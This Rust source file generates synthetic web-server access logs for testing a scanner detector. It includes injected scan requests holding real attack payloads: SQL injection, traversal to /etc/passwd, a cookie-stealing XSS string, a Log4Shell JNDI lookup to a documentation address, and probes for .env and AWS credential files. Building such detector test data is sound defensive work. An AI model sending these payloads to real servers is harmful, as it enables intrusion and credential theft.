//! The access log of the organisation's web server (Apache combined format), with injected
//! scanners for the `web` detector.
//!
//! Background per day: visitors (the organisation's own hosts and outside addresses) browsing
//! the site in sessions — a page, then its style sheets, scripts and images, with a referrer —
//! in common browser user agents, now and then a missing page (404) or a cached one (304);
//! search-engine crawlers (Googlebot, bingbot) walking many pages and `robots.txt`; an uptime
//! monitor polling `/health` every five minutes; a few API clients posting JSON with their
//! library's agent.
//!
//! [`scanner_injection`] adds a vulnerability scanner from one outside address: hundreds of
//! requests in minutes for paths no visitor asks for (`/.env`, `/.git/config`,
//! `/wp-login.php`, `/phpmyadmin/`, `/cgi-bin/.%2e/.%2e/bin/sh`, `/actuator/env`, …), SQL
//! injection and traversal strings in query parameters, mostly answered 404/403, with a tool's
//! user agent (Nikto, sqlmap, zgrab). Its [`Label`]'s subject is the scanner's address, as the
//! `web` detector reports it.

use crate::environment::{Environment, HostRole};
use crate::Label;
use rand::Rng;
use rand_chacha::ChaCha8Rng;
use std::io::Write;

/// One request, before rendering.
#[derive(Clone, Debug, PartialEq)]
pub struct WebRecord {
    /// Nanoseconds since the epoch.
    pub time_ns: i64,
    /// Client address.
    pub client: String,
    /// Method.
    pub method: &'static str,
    /// Request URI (path and query).
    pub uri: String,
    /// Status.
    pub status: u16,
    /// Body bytes.
    pub bytes: u64,
    /// Referrer (`-` when none).
    pub referrer: String,
    /// User agent.
    pub agent: String,
}

const MONTHS: [&str; 12] = [
    "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
];

impl WebRecord {
    /// The record as one Apache combined log line (no newline), time in UTC.
    pub fn to_combined(&self) -> String {
        let t = oddhunt_core::Timestamp::from_unix_nanos(self.time_ns).to_string();
        // RFC 3339 "2024-03-04T09:15:02.123Z" → "04/Mar/2024:09:15:02 +0000".
        let (date, time) = t.split_once('T').unwrap_or(("1970-01-01", "00:00:00Z"));
        let mut d = date.split('-');
        let (y, m, day) = (
            d.next().unwrap_or("1970"),
            d.next().and_then(|m| m.parse::<usize>().ok()).unwrap_or(1),
            d.next().unwrap_or("01"),
        );
        let hms = time.get(..8).unwrap_or("00:00:00");
        format!(
            "{} - - [{day}/{}/{y}:{hms} +0000] \"{} {} HTTP/1.1\" {} {} \"{}\" \"{}\"",
            self.client,
            MONTHS[(m.clamp(1, 12)) - 1],
            self.method,
            self.uri,
            self.status,
            self.bytes,
            self.referrer,
            self.agent
        )
    }
}

const SITE: &str = "https://www.corp.example.com";

const PAGES: &[&str] = &[
    "/",
    "/about",
    "/contact",
    "/careers",
    "/products",
    "/products/analytics",
    "/products/storage",
    "/products/security",
    "/pricing",
    "/support",
    "/support/faq",
    "/support/downloads",
    "/news",
    "/blog",
    "/login",
    "/search",
    "/partners",
    "/legal/privacy",
    "/legal/terms",
    "/events",
];

const ASSETS: &[&str] = &[
    // Cache-busting versions, as WordPress and most build tools add them: ordinary
    // visitors' requests carry query strings too.
    "/static/css/site.css?ver=6.4.3",
    "/static/css/print.css?ver=6.4.3",
    "/static/js/app.js?v=3f9a1c2e",
    "/static/js/vendor.js?v=8b0d7e41",
    "/static/img/logo.svg",
    "/static/img/hero.jpg",
    "/static/fonts/inter.woff2",
    "/favicon.ico",
];

const BROWSERS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36 Edg/122.0.0.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:123.0) Gecko/20100101 Firefox/123.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Safari/605.1.15",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0",
];

/// Options for [`generate`].
#[derive(Clone, Debug)]
pub struct WebOptions {
    /// Outside visitors per weekday (the organisation's workstations visit too).
    pub visitors_per_day: usize,
    /// Inject scanners on this day (0-based), if any.
    pub scanner_day: Option<u32>,
}

impl Default for WebOptions {
    fn default() -> Self {
        WebOptions {
            visitors_per_day: 300,
            scanner_day: None,
        }
    }
}

fn outside_ip(rng: &mut ChaCha8Rng) -> String {
    format!(
        "{}.{}.{}.{}",
        [23, 31, 45, 62, 77, 81, 89, 93, 102, 109, 151, 176, 185, 188, 203, 212]
            [rng.random_range(0..16)],
        rng.random_range(0..255),
        rng.random_range(0..255),
        rng.random_range(1..254)
    )
}

fn page_bytes(rng: &mut ChaCha8Rng) -> u64 {
    rng.random_range(4_000..60_000)
}

/// One visit: a few pages, each with its assets.
fn visit(rng: &mut ChaCha8Rng, client: &str, agent: &str, start_ns: i64, out: &mut Vec<WebRecord>) {
    let pages = rng.random_range(1..8);
    let mut t = start_ns;
    let mut referrer = if rng.random_bool(0.5) {
        "https://www.google.com/".to_string()
    } else {
        "-".to_string()
    };
    for visited in 0..pages {
        let page = if visited == 0 && referrer != "-" && rng.random_bool(0.2) {
            // A campaign link: the landing page with tracking parameters.
            format!(
                "{}?utm_source={}&utm_medium={}&utm_campaign=spring-{}",
                PAGES[rng.random_range(0..PAGES.len())],
                ["newsletter", "linkedin", "google", "partner"][rng.random_range(0..4)],
                ["email", "social", "cpc"][rng.random_range(0..3)],
                rng.random_range(2023..2025)
            )
        } else if rng.random_bool(0.06) {
            format!("/blog?page={}", rng.random_range(2..12))
        } else if rng.random_bool(0.1) {
            format!("/blog/post-{}", rng.random_range(1..180))
        } else if rng.random_bool(0.05) {
            format!(
                "/search?q={}",
                ["pricing", "support", "download", "login", "api"][rng.random_range(0..5)]
            )
        } else {
            PAGES[rng.random_range(0..PAGES.len())].to_string()
        };
        let missing = rng.random_bool(0.015);
        out.push(WebRecord {
            time_ns: t,
            client: client.to_string(),
            method: "GET",
            uri: if missing {
                format!("{page}/old")
            } else {
                page.clone()
            },
            status: if missing { 404 } else { 200 },
            bytes: page_bytes(rng),
            referrer: referrer.clone(),
            agent: agent.to_string(),
        });
        for asset in ASSETS {
            if rng.random_bool(0.6) {
                let cached = rng.random_bool(0.3);
                out.push(WebRecord {
                    time_ns: t + rng.random_range(50_000_000..900_000_000),
                    client: client.to_string(),
                    method: "GET",
                    uri: (*asset).to_string(),
                    status: if cached { 304 } else { 200 },
                    bytes: if cached {
                        0
                    } else {
                        rng.random_range(500..200_000)
                    },
                    referrer: format!("{SITE}{page}"),
                    agent: agent.to_string(),
                });
            }
        }
        referrer = format!("{SITE}{page}");
        t += rng.random_range(5_000_000_000..120_000_000_000);
    }
}

/// Generates the requests of one day (unsorted).
pub fn day_records(
    env: &Environment,
    rng: &mut ChaCha8Rng,
    day: u32,
    options: &WebOptions,
) -> Vec<WebRecord> {
    let day_start = env.day_start(day).unix_nanos();
    let weekend = env.is_weekend(day);
    let mut out = Vec::new();
    let visitors = if weekend {
        options.visitors_per_day / 2
    } else {
        options.visitors_per_day
    };
    for _ in 0..visitors {
        let ip = outside_ip(rng);
        let agent = BROWSERS[rng.random_range(0..BROWSERS.len())];
        let start = day_start + env.working_time(rng);
        visit(rng, &ip, agent, start, &mut out);
    }
    // Employees on their workstations.
    for host in env.hosts.iter().filter(|h| h.role == HostRole::Workstation) {
        if weekend || !rng.random_bool(0.4) {
            continue;
        }
        let agent = BROWSERS[host.name.len() % 2];
        let start = day_start + env.working_time(rng);
        visit(rng, &host.ip, agent, start, &mut out);
    }
    // Crawlers.
    for (ip, agent) in [
        (
            "66.249.66.1",
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        ),
        (
            "157.55.39.10",
            "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
        ),
    ] {
        let mut t = day_start + rng.random_range(0..20 * 3_600_000_000_000i64);
        out.push(WebRecord {
            time_ns: t,
            client: ip.to_string(),
            method: "GET",
            uri: "/robots.txt".to_string(),
            status: 200,
            bytes: 310,
            referrer: "-".to_string(),
            agent: agent.to_string(),
        });
        for _ in 0..rng.random_range(40..120) {
            t += rng.random_range(2_000_000_000..60_000_000_000);
            let page = if rng.random_bool(0.4) {
                format!("/blog/post-{}", rng.random_range(1..180))
            } else {
                PAGES[rng.random_range(0..PAGES.len())].to_string()
            };
            out.push(WebRecord {
                time_ns: t,
                client: ip.to_string(),
                method: "GET",
                uri: page,
                status: if rng.random_bool(0.02) { 404 } else { 200 },
                bytes: page_bytes(rng),
                referrer: "-".to_string(),
                agent: agent.to_string(),
            });
        }
    }
    // The uptime monitor.
    let mut t = day_start + rng.random_range(0..300_000_000_000i64);
    while t < day_start + 86_400_000_000_000 {
        out.push(WebRecord {
            time_ns: t,
            client: "216.144.250.150".to_string(),
            method: "HEAD",
            uri: "/health".to_string(),
            status: 200,
            bytes: 0,
            referrer: "-".to_string(),
            agent: "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"
                .to_string(),
        });
        t += 300_000_000_000;
    }
    // API clients of partners.
    for (i, agent) in [
        "python-requests/2.31.0",
        "okhttp/4.12.0",
        "Go-http-client/2.0",
    ]
    .iter()
    .enumerate()
    {
        let ip = format!("198.51.100.{}", 20 + i);
        for _ in 0..rng.random_range(20..60) {
            let t = day_start + env.machine_time(rng);
            out.push(WebRecord {
                time_ns: t,
                client: ip.clone(),
                method: if rng.random_bool(0.5) { "POST" } else { "GET" },
                uri: format!("/api/v2/orders?page={}&limit=50", rng.random_range(1..20)),
                status: if rng.random_bool(0.03) { 401 } else { 200 },
                bytes: rng.random_range(200..9_000),
                referrer: "-".to_string(),
                agent: (*agent).to_string(),
            });
        }
    }
    out
}

/// Paths vulnerability scanners ask for.
const SCAN_PATHS: &[&str] = &[
    "/.env",
    "/.git/config",
    "/.git/HEAD",
    "/.aws/credentials",
    "/.DS_Store",
    "/wp-login.php",
    "/wp-admin/",
    "/wp-content/plugins/revslider/temp/update_extract/",
    "/xmlrpc.php",
    "/phpmyadmin/",
    "/pma/index.php",
    "/admin.php",
    "/administrator/index.php",
    "/config.php.bak",
    "/backup.zip",
    "/db.sql",
    "/server-status",
    "/actuator/env",
    "/actuator/heapdump",
    "/solr/admin/info/system",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
    "/cgi-bin/test-cgi",
    "/boaform/admin/formLogin",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/owa/auth/logon.aspx",
    "/remote/login",
    "/console/login/LoginForm.jsp",
    "/HNAP1/",
    "/shell.php",
    "/cmd.aspx",
];

const SCAN_QUERIES: &[&str] = &[
    "/search?q=%27%20OR%20%271%27%3D%271",
    "/search?q=1%27%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--",
    "/products?id=1%20AND%20SLEEP(5)",
    "/index.php?page=../../../../etc/passwd",
    "/index.php?page=php://filter/convert.base64-encode/resource=index",
    "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    "/login?redirect=http://evil.example.net/",
    "/api/v2/orders?id=${jndi:ldap://198.51.100.77/a}",
];

/// A vulnerability scanner from one outside address: `requests` requests within minutes on
/// `day`, with the tool's user agent. Returns the records and adds the label.
pub fn scanner_injection(
    env: &Environment,
    rng: &mut ChaCha8Rng,
    day: u32,
    tool: &str,
    requests: usize,
    labels: &mut Vec<Label>,
) -> Vec<WebRecord> {
    let ip = outside_ip(rng);
    let agent = match tool {
        "sqlmap" => "sqlmap/1.8.2#stable (https://sqlmap.org)",
        "zgrab" => "Mozilla/5.0 zgrab/0.x",
        _ => "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)",
    };
    let start = env.day_start(day).unix_nanos() + env.machine_time(rng);
    let mut out = Vec::with_capacity(requests);
    for i in 0..requests {
        let t = start + i as i64 * rng.random_range(300_000_000..1_500_000_000);
        let (uri, status) = if tool == "sqlmap" || rng.random_bool(0.25) {
            let q = SCAN_QUERIES[rng.random_range(0..SCAN_QUERIES.len())];
            let salted = format!("{q}{}", if rng.random_bool(0.5) { "" } else { "%20--%20" });
            (salted, [200, 500, 403, 400][rng.random_range(0..4)])
        } else {
            let p = SCAN_PATHS[rng.random_range(0..SCAN_PATHS.len())];
            let variant = if rng.random_bool(0.4) {
                format!(
                    "{p}{}",
                    ["~", ".old", ".orig", ".save", "?debug=1"][rng.random_range(0..5)]
                )
            } else {
                p.to_string()
            };
            (variant, if rng.random_bool(0.85) { 404 } else { 403 })
        };
        out.push(WebRecord {
            time_ns: t,
            client: ip.clone(),
            method: if rng.random_bool(0.9) { "GET" } else { "POST" },
            uri,
            status,
            bytes: rng.random_range(150..600),
            referrer: "-".to_string(),
            agent: agent.to_string(),
        });
    }
    labels.push(Label {
        detector: "web".into(),
        subject: ip.clone(),
        technique: "T1595.002".into(),
        description: format!("{tool} vulnerability scan from {ip} ({requests} requests)"),
    });
    out
}

/// Writes `env.days` days of the web server's access log (Apache combined), in time order,
/// with two scanners (Nikto and sqlmap) on `options.scanner_day`; returns the lines written.
pub fn generate(
    env: &Environment,
    rng: &mut ChaCha8Rng,
    options: &WebOptions,
    out: &mut dyn Write,
    labels: &mut Vec<Label>,
) -> std::io::Result<u64> {
    let mut written = 0;
    for day in 0..env.days {
        let mut records = day_records(env, rng, day, options);
        if options.scanner_day == Some(day) {
            records.extend(scanner_injection(env, rng, day, "nikto", 600, labels));
            records.extend(scanner_injection(env, rng, day, "sqlmap", 250, labels));
        }
        records.sort_by_key(|r| r.time_ns);
        for r in &records {
            writeln!(out, "{}", r.to_combined())?;
            written += 1;
        }
    }
    Ok(written)
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;

    #[test]
    fn combined_lines_and_labels() {
        let mut rng = ChaCha8Rng::seed_from_u64(4);
        let start = oddhunt_core::Timestamp::parse("2024-03-04T00:00:00Z").unwrap();
        let env = Environment::new(&mut rng, 10, 20, 1, start);
        let mut labels = Vec::new();
        let scan = scanner_injection(&env, &mut rng, 0, "nikto", 30, &mut labels);
        assert_eq!(scan.len(), 30);
        assert_eq!(labels[0].subject, scan[0].client);
        let line = scan[0].to_combined();
        assert!(line.contains("/Mar/2024:"), "{line}");
        assert!(line.ends_with("(Test:000562)\""), "{line}");
        let r = WebRecord {
            time_ns: 1_709_543_702_000_000_000,
            client: "10.0.0.1".into(),
            method: "GET",
            uri: "/".into(),
            status: 200,
            bytes: 5,
            referrer: "-".into(),
            agent: "a".into(),
        };
        assert_eq!(
            r.to_combined(),
            "10.0.0.1 - - [04/Mar/2024:09:15:02 +0000] \"GET / HTTP/1.1\" 200 5 \"-\" \"a\""
        );
    }

    #[test]
    fn deterministic_for_a_seed() {
        let run = || {
            let mut rng = ChaCha8Rng::seed_from_u64(2);
            let start = oddhunt_core::Timestamp::parse("2024-03-04T00:00:00Z").unwrap();
            let env = Environment::new(&mut rng, 10, 20, 2, start);
            let mut out = Vec::new();
            let mut labels = Vec::new();
            let options = WebOptions {
                visitors_per_day: 20,
                scanner_day: Some(1),
            };
            generate(&env, &mut rng, &options, &mut out, &mut labels).unwrap();
            (out, labels)
        };
        let (a, la) = run();
        assert_eq!(run(), (a.clone(), la.clone()));
        assert_eq!(la.len(), 2);
        assert!(String::from_utf8(a).unwrap().contains("GET /.env"));
    }
}
